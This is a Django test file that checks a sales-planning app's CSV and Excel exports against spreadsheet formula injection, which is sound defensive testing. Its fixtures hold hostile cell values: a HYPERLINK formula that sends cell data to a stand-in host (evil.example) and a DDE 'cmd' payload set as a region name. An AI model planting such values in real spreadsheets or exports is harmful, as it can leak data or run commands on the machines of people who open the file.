"""Exports never hand a spreadsheet a formula: text starting with = + - @ tab or CR is
neutralised in CSV and .xlsx, while figures, negative ones included, stay numbers
(issue 9, item 11)."""

import csv
import io
from decimal import Decimal

import openpyxl
from django.urls import reverse

from customers.models import Customer, Region
from planning.models import ActualSale, Target
from tests.base import PersonasTestCase

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


class ExportNeutralisationTests(PersonasTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.hostile = [
            Customer.objects.create(region=cls.shanghai, name=name) for name in HOSTILE_NAMES
        ]
        for month, customer in enumerate(cls.hostile, start=1):
            Target.objects.create(
                plan=cls.plan,
                customer=customer,
                product=cls.product_a,
                month=month,
                quantity=Decimal("3"),
                amount=Decimal("300.00"),
            )
            # A credit note: a negative actual figure must stay a negative number.
            ActualSale.objects.create(
                region=cls.shanghai,
                period=cls.period,
                customer=customer,
                product=cls.product_a,
                month=month,
                quantity=Decimal("-2"),
                amount=Decimal("-1234.56"),
            )

    def setUp(self):
        self.login(self.alice)

    def export(self, sheet: str, file_format: str):
        response = self.client.get(
            reverse("numbers_export", args=[self.plan.pk]),
            {"sheet": sheet, "format": file_format},
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def csv_rows(self, sheet: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(self.export(sheet, "csv").decode("utf-8-sig"))))

    def xlsx_rows(self, sheet: str) -> list[list]:
        workbook = openpyxl.load_workbook(io.BytesIO(self.export(sheet, "xlsx")))
        return [list(row) for row in workbook.active.iter_rows()]

    def test_csv_text_cells_are_neutralised_and_figures_stay_numbers(self):
        for sheet in ("targets", "actual_sales"):
            rows = {row[0]: row for row in self.csv_rows(sheet)[1:]}
            for name in HOSTILE_NAMES:
                with self.subTest(sheet=sheet, name=name):
                    self.assertIn("'" + name, rows)
                    figures = [value for value in rows["'" + name][2:] if value]
                    self.assertTrue(figures)
                    for value in figures:
                        self.assertFalse(value.startswith("'"), value)
                        Decimal(value)  # a plain number, negative ones included
        actual = {row[0]: row for row in self.csv_rows("actual_sales")[1:]}
        self.assertIn("-1234.56", actual["'" + HOSTILE_NAMES[0]])
        self.assertIn("-2", actual["'" + HOSTILE_NAMES[0]])

    def test_xlsx_text_cells_are_neutralised_and_figures_are_numeric_cells(self):
        for sheet in ("targets", "actual_sales"):
            rows = self.xlsx_rows(sheet)
            names = {row[0].value: row for row in rows[1:]}
            for name in HOSTILE_NAMES:
                with self.subTest(sheet=sheet, name=name):
                    # XML reads a stored CR back as LF; the apostrophe leads either way.
                    row = names["'" + name.replace("\r", "\n")]
                    self.assertEqual(row[0].data_type, "s")
                    figures = [cell for cell in row[2:] if cell.value is not None]
                    self.assertTrue(figures)
                    for cell in figures:
                        self.assertEqual(cell.data_type, "n", cell.value)
        actual = self.xlsx_rows("actual_sales")
        values = [c.value for c in next(r for r in actual if r[0].value == "'" + HOSTILE_NAMES[0])]
        self.assertIn(-1234.56, values)
        self.assertIn(-2, values)

    def test_no_exported_cell_is_a_formula(self):
        for sheet in ("targets", "actual_sales"):
            for row in self.xlsx_rows(sheet):
                for cell in row:
                    with self.subTest(sheet=sheet, cell=cell.coordinate):
                        self.assertNotEqual(cell.data_type, "f")
                        if isinstance(cell.value, str):
                            self.assertFalse(cell.value.startswith(("=", "+", "-", "@")))

    def test_the_headquarters_roll_up_neutralises_region_names(self):
        Region.objects.filter(pk=self.shanghai.pk).update(name="=cmd|'/C calc'!A0")
        self.login(self.rita)

        response = self.client.get(reverse("rollup", args=[self.period.year]), {"format": "xlsx"})

        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        self.assertTrue(any("=cmd" in text for text in texts))
        for text in texts:
            self.assertFalse(text.startswith(("=", "+", "@")), text)
        self.assertFalse(
            [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], "a formula"
        )
